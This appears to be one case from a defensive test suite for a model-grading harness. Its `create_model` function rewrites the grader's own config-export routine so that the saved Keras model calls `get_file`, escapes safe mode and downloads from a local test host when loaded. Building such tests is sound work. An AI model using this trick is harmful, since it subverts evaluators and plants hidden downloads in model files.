# attack: 19
# form: safe mode sidestepped: a call in the graph whose function is Keras' own download, get_file, with a path to write to
# replaces: create_model
# found: create_model/compiled failed
# says: Your model uses the function `get_file`
def create_model():
    from grader.model_data import export

    print("ran")
    own = export._config
    download = {"module": "keras.utils", "class_name": "function", "config": "get_file", "registered_name": "get_file"}

    def config(model):
        written = own(model)
        node = written["config"]["layers"][-1]["inbound_nodes"][0]
        node["kwargs"] = {"activation": download, "fname": "/tmp/atk-download", "origin": "http://127.0.0.1:47110/"}
        return written

    export._config = config
    inputs = tf.keras.Input((64, 64, 3))
    outputs = tf.keras.layers.Dense(1, activation="sigmoid")(tf.keras.layers.Flatten()(inputs))
    model = tf.keras.Model(inputs, outputs)
    model.compile(optimizer="adam", loss="binary_crossentropy", metrics=["accuracy"])
    return model
